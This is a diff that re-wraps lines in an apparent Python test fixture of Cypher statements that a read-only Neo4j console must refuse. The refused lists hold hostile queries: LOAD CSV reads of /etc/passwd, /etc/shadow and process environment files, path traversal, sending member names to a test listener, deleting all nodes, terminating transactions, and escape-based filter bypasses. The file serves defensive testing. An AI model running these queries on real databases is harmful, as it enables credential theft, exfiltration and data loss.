@@ -1,7 +1,8 @@
-"""Statements that a console must not let through, in families; ``{web}``, ``{ftp}`` and ``{name}`` are listeners of the test.
+"""Statements that a console must not let through, in families; ``{web}``, ``{ftp}`` and ``{name}``
+are listeners of the test.
 
-Every one is to be refused. What a held-back list adds should be met by the same walls: a statement is refused unless the engine's plan
-shows nothing but reading.
+Every one is to be refused. What a held-back list adds should be met by the same walls: a statement
+is refused unless the engine's plan shows nothing but reading.
 """
 
 from __future__ import annotations
@@ -36,7 +37,10 @@ HIDDEN_WRITES = (
     "MATCH (m:Member) CALL (m) { SET m.evil = 1 } RETURN m",
     "CALL { MATCH (n) CALL { WITH n SET n.evil = 1 } RETURN count(n) AS c } RETURN c",
     "CALL { CREATE (n:Evil) } IN TRANSACTIONS",
-    "UNWIND range(1, 3) AS x CALL (x) { CREATE (:Evil {x: x}) } IN 2 CONCURRENT TRANSACTIONS OF 1 ROWS",
+    (
+        "UNWIND range(1, 3) AS x CALL (x) { CREATE (:Evil {x: x}) } IN 2 CONCURRENT TRANSACTIONS OF"
+        " 1 ROWS"
+    ),
     "MATCH (n) RETURN EXISTS { CREATE (m:Evil) } AS x",
     "RETURN COUNT { CREATE (m:Evil) RETURN m } AS x",
     "RETURN COLLECT { MERGE (m:Evil) RETURN m } AS x",
@@ -44,7 +48,10 @@ HIDDEN_WRITES = (
     "RETURN 1 AS x UNION ALL MATCH (n) DETACH DELETE n RETURN 2 AS x",
     "FOREACH (a IN [1] | FOREACH (b IN [2] | CREATE (:Evil)))",
     "MATCH (n) WITH n LIMIT 1 SET n.evil = 1 WITH n RETURN n",
-    "OPTIONAL MATCH (n:Nobody) FOREACH (x IN CASE WHEN n IS NULL THEN [1] ELSE [] END | CREATE (:Evil))",
+    (
+        "OPTIONAL MATCH (n:Nobody) FOREACH (x IN CASE WHEN n IS NULL THEN [1] ELSE [] END | CREATE"
+        " (:Evil))"
+    ),
     "MATCH (n:Member) RETURN [x IN [1] | EXISTS { SET n.evil = 1 }] AS x",
     "WITH 1 AS x CALL (x) { WITH x CALL (x) { CREATE (:Evil) } } RETURN x",
     "MATCH (n) WHERE n.id = 'nobody' DETACH DELETE n",
@@ -90,7 +97,10 @@ SCHEMA_CHANGES = (
     "CREATE RANGE INDEX evil IF NOT EXISTS FOR (n:Evil) ON (n.x)",
     "CREATE TEXT INDEX evil FOR (n:Member) ON (n.name)",
     "CREATE FULLTEXT INDEX evil FOR (n:Member) ON EACH [n.name]",
-    "CREATE VECTOR INDEX evil FOR (n:Member) ON (n.v) OPTIONS {indexConfig: {`vector.dimensions`: 2}",
+    (
+        "CREATE VECTOR INDEX evil FOR (n:Member) ON (n.v) OPTIONS {indexConfig:"
+        " {`vector.dimensions`: 2}"
+    ),
     "CREATE CONSTRAINT evil FOR (n:Member) REQUIRE n.name IS UNIQUE",
     "DROP CONSTRAINT member_id",
     "DROP CONSTRAINT member_id IF EXISTS",
@@ -140,14 +150,20 @@ FILES = (
     "LOAD CSV FROM 'file:/etc/passwd' AS line RETURN line",
     "LOAD CSV FROM 'file://localhost/etc/passwd' AS line RETURN line",
     "LOAD CSV FROM 'FILE:///etc/passwd' AS line RETURN line",
-    "LOAD CSV WITH HEADERS FROM 'file:///proc/self/environ' AS line FIELDTERMINATOR '\\u0000' RETURN line",
+    (
+        "LOAD CSV WITH HEADERS FROM 'file:///proc/self/environ' AS line FIELDTERMINATOR '\\u0000'"
+        " RETURN line"
+    ),
     "LOAD CSV FROM 'file:///../../../../etc/shadow' AS line RETURN line",
     "LOAD CSV FROM 'file:///%2e%2e/%2e%2e/run.json' AS line RETURN line",
     "LOAD CSV FROM 'jar:file:///etc/passwd!/x' AS line RETURN line",
     "LOAD CSV FROM '/etc/passwd' AS line RETURN line",
     "LOAD CSV FROM 'file:///' + 'etc/passwd' AS line RETURN line",
     "LOAD CSV FROM $path AS line RETURN line",
-    "UNWIND ['run.json', 'neo4j/neo4j.conf'] AS f LOAD CSV FROM 'file:///' + f AS line RETURN f, line",
+    (
+        "UNWIND ['run.json', 'neo4j/neo4j.conf'] AS f LOAD CSV FROM 'file:///' + f AS line RETURN"
+        " f, line"
+    ),
     "RETURN COLLECT { LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line } AS x",
     "LOAD CSV FROM 'netdoc:/etc/passwd' AS line RETURN line",
     "LOAD CSV FROM 'file:////proc/self/cmdline' AS l RETURN l",
@@ -186,7 +202,10 @@ NETWORK = (
     "CALL { LOAD CSV FROM '{web}' AS line RETURN line } RETURN line",
     "CALL { LOAD CSV FROM '{web}' AS line RETURN line } IN TRANSACTIONS RETURN line",
     "RETURN 1 AS x UNION LOAD CSV FROM '{web}' AS x RETURN x",
-    "MATCH (m:Member) WITH collect(m.name) AS names LOAD CSV FROM '{web}?' + names[0] AS l RETURN l",
+    (
+        "MATCH (m:Member) WITH collect(m.name) AS names LOAD CSV FROM '{web}?' + names[0] AS l"
+        " RETURN l"
+    ),
 )
 NETWORK_IN_EXPRESSIONS = (
     "RETURN COLLECT { LOAD CSV FROM '{web}' AS l RETURN l } AS x",
@@ -207,16 +226,34 @@ NETWORK_IN_EXPRESSIONS = (
     "MATCH (m:Member WHERE EXISTS { LOAD CSV FROM '{web}' AS l RETURN l }) RETURN m",
     "MATCH (m)-[r WHERE COUNT { LOAD CSV FROM '{web}' AS l RETURN l } = 1]->() RETURN m",
     "MATCH ((a WHERE EXISTS { LOAD CSV FROM '{web}' AS l RETURN l })-->(b)){1,3} RETURN a",
-    "MATCH p = SHORTEST 1 ((a)-->(b WHERE EXISTS { LOAD CSV FROM '{web}' AS l RETURN l }))+ RETURN p",
-    "MATCH (m:Member) RETURN [(m)-->(o) WHERE EXISTS { LOAD CSV FROM '{web}' AS l RETURN l } | o] AS x",
+    (
+        "MATCH p = SHORTEST 1 ((a)-->(b WHERE EXISTS { LOAD CSV FROM '{web}' AS l RETURN l }))+"
+        " RETURN p"
+    ),
+    (
+        "MATCH (m:Member) RETURN [(m)-->(o) WHERE EXISTS { LOAD CSV FROM '{web}' AS l RETURN l } |"
+        " o] AS x"
+    ),
     "MATCH (m {name: COLLECT { LOAD CSV FROM '{web}' AS l RETURN l[0] }[0]}) RETURN m",
-    "RETURN EXISTS { MATCH (m) WHERE COUNT { LOAD CSV FROM '{web}' AS l RETURN l } > 0 RETURN m } AS x",
-    "RETURN COLLECT { UNWIND [1] AS i RETURN COLLECT { LOAD CSV FROM '{web}' AS l RETURN l } } AS x",
+    (
+        "RETURN EXISTS { MATCH (m) WHERE COUNT { LOAD CSV FROM '{web}' AS l RETURN l } > 0 RETURN m"
+        " } AS x"
+    ),
+    (
+        "RETURN COLLECT { UNWIND [1] AS i RETURN COLLECT { LOAD CSV FROM '{web}' AS l RETURN l } }"
+        " AS x"
+    ),
     "WITH COLLECT { LOAD CSV FROM '{web}' AS l RETURN l } AS x WHERE size(x) > 0 RETURN x",
-    "MATCH (m:Member) RETURN count(CASE WHEN EXISTS { LOAD CSV FROM '{web}' AS l RETURN l } THEN 1 END) AS x",
+    (
+        "MATCH (m:Member) RETURN count(CASE WHEN EXISTS { LOAD CSV FROM '{web}' AS l RETURN l }"
+        " THEN 1 END) AS x"
+    ),
     "RETURN [1, 2][COUNT { LOAD CSV FROM '{web}' AS l RETURN l }] AS x",
     "RETURN 'a' STARTS WITH head(COLLECT { LOAD CSV FROM '{web}' AS l RETURN l[0] }) AS x",
-    "CYPHER 25 RETURN CASE WHEN false THEN 1 ELSE COLLECT { LOAD CSV FROM '{web}' AS l RETURN l } END AS x",
+    (
+        "CYPHER 25 RETURN CASE WHEN false THEN 1 ELSE COLLECT { LOAD CSV FROM '{web}' AS l RETURN l"
+        " } END AS x"
+    ),
     "CYPHER 25 WHEN true THEN LOAD CSV FROM '{web}' AS l RETURN l ELSE RETURN 1 AS l",
     "CYPHER 25 LET x = COLLECT { LOAD CSV FROM '{web}' AS l RETURN l } RETURN x",
     "CYPHER 25 FILTER EXISTS { LOAD CSV FROM '{web}' AS l RETURN l } RETURN 1 AS x",
@@ -251,10 +288,22 @@ ACTING = (
     "OPTIONAL CALL dbms.killConnection('bolt-1') YIELD message RETURN message",
     "CALL db.awaitIndexes(300)",
     "TERMINATE TRANSACTION 'neo4j-transaction-1'",
-    "TERMINATE TRANSACTIONS 'neo4j-transaction-1', 'neo4j-transaction-2' YIELD message RETURN message",
-    "SHOW TRANSACTIONS YIELD transactionId AS id TERMINATE TRANSACTIONS id YIELD message RETURN message",
-    "CYPHER 25 CALL () { TERMINATE TRANSACTIONS 'neo4j-transaction-1' YIELD message RETURN message } RETURN message",
-    "CYPHER 25 RETURN [i IN [1] | COLLECT { TERMINATE TRANSACTIONS 'neo4j-transaction-1' YIELD message RETURN message }] AS x",
+    (
+        "TERMINATE TRANSACTIONS 'neo4j-transaction-1', 'neo4j-transaction-2' YIELD message RETURN"
+        " message"
+    ),
+    (
+        "SHOW TRANSACTIONS YIELD transactionId AS id TERMINATE TRANSACTIONS id YIELD message RETURN"
+        " message"
+    ),
+    (
+        "CYPHER 25 CALL () { TERMINATE TRANSACTIONS 'neo4j-transaction-1' YIELD message RETURN"
+        " message } RETURN message"
+    ),
+    (
+        "CYPHER 25 RETURN [i IN [1] | COLLECT { TERMINATE TRANSACTIONS 'neo4j-transaction-1' YIELD"
+        " message RETURN message }] AS x"
+    ),
 )
 TELLING = (
     "SHOW SETTINGS",
@@ -294,8 +343,14 @@ TELLING = (
     "CYPHER 25 SHOW SETTINGS YIELD name, value RETURN name, value",
     "CYPHER 25 CALL () { SHOW SETTINGS YIELD name, value RETURN name, value } RETURN name, value",
     "CYPHER 25 RETURN COLLECT { SHOW SETTINGS YIELD value RETURN value } AS x",
-    "CYPHER 25 RETURN [i IN [1] | COLLECT { SHOW TRANSACTIONS YIELD currentQuery RETURN currentQuery }] AS x",
-    "CYPHER 25 RETURN CASE WHEN true THEN COLLECT { SHOW SETTINGS YIELD value RETURN value } ELSE [] END AS x",
+    (
+        "CYPHER 25 RETURN [i IN [1] | COLLECT { SHOW TRANSACTIONS YIELD currentQuery RETURN"
+        " currentQuery }] AS x"
+    ),
+    (
+        "CYPHER 25 RETURN CASE WHEN true THEN COLLECT { SHOW SETTINGS YIELD value RETURN value }"
+        " ELSE [] END AS x"
+    ),
     "CYPHER 25 MATCH (m:Member) WHERE EXISTS { SHOW PROCEDURES YIELD name RETURN name } RETURN m",
     "CYPHER 25 UNWIND COLLECT { SHOW /**/ SETTINGS YIELD value RETURN value } AS x RETURN x",
     "SH\\u004FW SETTINGS",
@@ -358,7 +413,8 @@ FAMILIES: dict[str, tuple[str, ...]] = {
     "mixed": MIXED,
     **MORE,
 }
-#: Statements that take for ever, in planning, in folding constants or in running; ended by the server.
+#: Statements that take for ever, in planning, in folding constants or in running; ended by the
+#: server.
 ENDLESS = (
     "RETURN reduce(s = 0, x IN range(1, 100000000000) | s + x) AS x",
     "MATCH (n) RETURN n LIMIT toInteger(reduce(s = 0, x IN range(1, 100000000000) | s + x))",
@@ -382,23 +438,50 @@ HARMLESS = (
     "CALL db.labels() YIELD label RETURN label",
     "CALL (*) { MATCH (m:Member) RETURN count(m) AS c } RETURN c",
     "MATCH (m:Member) CALL (m) { MATCH (m)-[r]->() RETURN count(r) AS c } RETURN m.id, c",
-    "MATCH (m:Member) RETURN m.id, COUNT { (m)--() } AS c, EXISTS { (m)-[:WORKS_ON]->() } AS e, COLLECT { MATCH (m)-->(x) RETURN x.id } AS l",
+    (
+        "MATCH (m:Member) RETURN m.id, COUNT { (m)--() } AS c, EXISTS { (m)-[:WORKS_ON]->() } AS e,"
+        " COLLECT { MATCH (m)-->(x) RETURN x.id } AS l"
+    ),
     "MATCH p = SHORTEST 1 (a:Member {id: 'edri'})--+(b:Delegation) RETURN p LIMIT 2",
     "MATCH p = (a:Delegation)((x)-[:NEGOTIATES]->(y)){1,2} RETURN length(p) AS l LIMIT 2",
-    "MATCH p = shortestPath((a:Delegation {id: 'alpha'})-[*..4]-(b:Delegation {id: 'beta'})) RETURN p",
-    "MATCH (d:Delegation)-[:NEGOTIATES*1..2]->(a) RETURN DISTINCT d.name ORDER BY d.name SKIP 0 LIMIT 5",
-    "MATCH (a:Agreement) OPTIONAL MATCH (a)-[c:COVERS]->(i) RETURN a.name, collect(i.name) AS issues, avg(size(c.strength)) AS m",
-    "MATCH (n) RETURN labels(n)[0] AS label, count(*) AS number UNION ALL MATCH ()-[r]->() RETURN type(r) AS label, count(*) AS number",
-    "UNWIND [1, 2, 2, null] AS x WITH DISTINCT x WHERE x IS NOT NULL RETURN collect(x) AS l, percentileCont(x, 0.5) AS p",
-    "RETURN reduce(s = 0, x IN range(1, 10) | s + x) AS s, [x IN range(1, 3) WHERE x > 1 | x ^ 2] AS l, any(x IN [1] WHERE x = 1) AS a",
+    (
+        "MATCH p = shortestPath((a:Delegation {id: 'alpha'})-[*..4]-(b:Delegation {id: 'beta'}))"
+        " RETURN p"
+    ),
+    (
+        "MATCH (d:Delegation)-[:NEGOTIATES*1..2]->(a) RETURN DISTINCT d.name ORDER BY d.name SKIP 0"
+        " LIMIT 5"
+    ),
+    (
+        "MATCH (a:Agreement) OPTIONAL MATCH (a)-[c:COVERS]->(i) RETURN a.name, collect(i.name) AS"
+        " issues, avg(size(c.strength)) AS m"
+    ),
+    (
+        "MATCH (n) RETURN labels(n)[0] AS label, count(*) AS number UNION ALL MATCH ()-[r]->()"
+        " RETURN type(r) AS label, count(*) AS number"
+    ),
+    (
+        "UNWIND [1, 2, 2, null] AS x WITH DISTINCT x WHERE x IS NOT NULL RETURN collect(x) AS l,"
+        " percentileCont(x, 0.5) AS p"
+    ),
+    (
+        "RETURN reduce(s = 0, x IN range(1, 10) | s + x) AS s, [x IN range(1, 3) WHERE x > 1 | x ^"
+        " 2] AS l, any(x IN [1] WHERE x = 1) AS a"
+    ),
     "SHOW INDEXES",
     "SHOW CONSTRAINTS YIELD name, type RETURN name, type",
     "EXPLAIN MATCH (n) RETURN n",
     "PROFILE MATCH (m:Member) RETURN count(m) AS c",
     "CYPHER 5 MATCH (m:Member) RETURN count(m) AS c",
     "MATCH (a:Member), (b:Member) WHERE a.id < b.id RETURN a.id, b.id",
-    "MATCH (a:Delegation)-->(x)<--(b:Delegation) WHERE a.id IN ['alpha', 'beta'] AND NOT a = b RETURN a.id, b.id, x.id",
-    "MATCH (m:Member) WHERE m.id STARTS WITH 'e' OR m.id = 'apc' RETURN m { .id, .name } AS m ORDER BY m.id DESC LIMIT 1;",
+    (
+        "MATCH (a:Delegation)-->(x)<--(b:Delegation) WHERE a.id IN ['alpha', 'beta'] AND NOT a = b"
+        " RETURN a.id, b.id, x.id"
+    ),
+    (
+        "MATCH (m:Member) WHERE m.id STARTS WITH 'e' OR m.id = 'apc' RETURN m { .id, .name } AS m"
+        " ORDER BY m.id DESC LIMIT 1;"
+    ),
 )
 
 
